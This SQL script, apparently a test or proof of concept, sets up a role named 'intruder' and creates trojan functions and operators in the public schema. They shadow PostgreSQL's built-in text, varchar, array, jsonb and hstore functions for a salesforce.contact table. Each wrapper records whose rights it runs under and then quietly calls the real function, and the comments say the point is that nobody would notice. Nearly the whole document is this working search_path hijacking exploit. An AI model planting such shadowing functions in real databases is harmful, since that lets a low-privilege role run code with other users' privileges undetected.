-- A role that may make functions and operators where an application's names are looked up makes one for every pair of
-- types that PostgreSQL's own fit only by a cast, and whatever fits a mapped table's row type. Each notes whose rights it
-- has, and otherwise does what PostgreSQL's own does, so that nobody would see it.

CREATE TABLE public.seen (who text, application text, what text);
GRANT INSERT ON public.seen TO PUBLIC;
DO $$ BEGIN
    CREATE ROLE intruder;
EXCEPTION WHEN duplicate_object OR unique_violation THEN NULL;
END $$;
GRANT CREATE, USAGE ON SCHEMA public TO intruder;
GRANT USAGE ON SCHEMA salesforce TO intruder;
GRANT SELECT ON salesforce.contact TO intruder;
SET ROLE intruder;

CREATE FUNCTION public.look(what text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN
    INSERT INTO public.seen VALUES (current_user, pg_catalog.current_setting('application_name'), what);
END $$;

DO $$
DECLARE
    theirs record;
    number integer := 0;
BEGIN
    FOR theirs IN
        SELECT oprname AS name, pg_catalog.format_type(oprresult, NULL) AS result, pair.a, pair.b
        FROM pg_catalog.pg_operator, (VALUES ('varchar', 'varchar'), ('varchar', 'text'), ('text', 'varchar')) AS pair (a, b)
        WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft = 'text'::regtype AND oprright = 'text'::regtype
    LOOP
        number := number + 1;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.intruder_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN
                 PERFORM public.look(%L); RETURN a::text OPERATOR(pg_catalog.%s) b::text; END $f$',
            number, theirs.a, theirs.b, theirs.result, theirs.a || ' ' || theirs.name || ' ' || theirs.b, theirs.name);
        EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.intruder_%s)',
            theirs.name, theirs.a, theirs.b, number);
    END LOOP;
    FOR theirs IN
        SELECT name, result, string_agg(replace(argument, 'text', 'varchar'), ', ' ORDER BY at) AS arguments,
            string_agg(format('$%s::%s', at, argument), ', ' ORDER BY at) AS given
        FROM (
            SELECT p.oid, proname AS name, pg_catalog.format_type(prorettype, NULL) AS result, at,
                pg_catalog.format_type(argument, NULL) AS argument
            FROM pg_catalog.pg_proc p, unnest(proargtypes) WITH ORDINALITY AS of (argument, at)
            WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset AND provariadic = 0
                AND prorettype <> ALL ('{void,internal,cstring,anyelement,anyarray}'::regtype[])
                AND 'text'::regtype = ANY (proargtypes) AND proargtypes::oid[] <@ '{text,integer,boolean,"text[]"}'::regtype[]::oid[]
        ) functions GROUP BY oid, name, result
    LOOP
        BEGIN
            EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN
                PERFORM public.look(%L); RETURN pg_catalog.%I(%s); END $f$',
                theirs.name, theirs.arguments, theirs.result, theirs.name, theirs.name, theirs.given);
        -- Two of them may come to one.
        EXCEPTION WHEN duplicate_function THEN NULL;
        END;
    END LOOP;
END $$;

CREATE FUNCTION public.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('unnest'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION public.unnest(integer[]) RETURNS SETOF integer LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('unnest'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION public.to_jsonb(salesforce.contact) RETURNS jsonb LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('to_jsonb'); RETURN pg_catalog.to_jsonb($1::record); END $$;
CREATE FUNCTION public.row_to_json(salesforce.contact) RETURNS json LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('row_to_json'); RETURN pg_catalog.row_to_json($1::record); END $$;
CREATE FUNCTION public.jsonb_populate_record(salesforce.contact, jsonb) RETURNS salesforce.contact
LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('jsonb_populate_record'); RETURN pg_catalog.jsonb_populate_record($1, $2); END $$;
CREATE FUNCTION public.jsonb_populate_recordset(salesforce.contact, jsonb) RETURNS SETOF salesforce.contact
LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('jsonb_populate_recordset');
    RETURN QUERY SELECT * FROM pg_catalog.jsonb_populate_recordset($1, $2); END $$;
CREATE FUNCTION public.hstore(salesforce.contact) RETURNS public.hstore LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('hstore'); RETURN public.hstore($1::record); END $$;
CREATE FUNCTION public.populate_record(salesforce.contact, public.hstore) RETURNS salesforce.contact
LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('populate_record'); RETURN $1; END $$;
CREATE OPERATOR public.#= (LEFTARG = salesforce.contact, RIGHTARG = public.hstore, FUNCTION = public.populate_record);
CREATE FUNCTION public.shared(text[], text[]) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('text[] && text[]'); RETURN $1 OPERATOR(pg_catalog.&&) $2; END $$;
CREATE OPERATOR public.&& (LEFTARG = text[], RIGHTARG = text[], FUNCTION = public.shared);
CREATE FUNCTION public.joined(text[], text[]) RETURNS text[] LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('text[] || text[]'); RETURN $1 OPERATOR(pg_catalog.||) $2; END $$;
CREATE OPERATOR public.|| (LEFTARG = text[], RIGHTARG = text[], FUNCTION = public.joined);
-- A literal of no type is taken for one of the other side's.
CREATE FUNCTION public.part(jsonb, jsonb) RETURNS jsonb LANGUAGE plpgsql AS $$ BEGIN
    PERFORM public.look('jsonb -> jsonb'); RETURN $1 OPERATOR(pg_catalog.->) ($2 OPERATOR(pg_catalog.#>>) '{}'); END $$;
CREATE OPERATOR public.-> (LEFTARG = jsonb, RIGHTARG = jsonb, FUNCTION = public.part);
RESET ROLE;
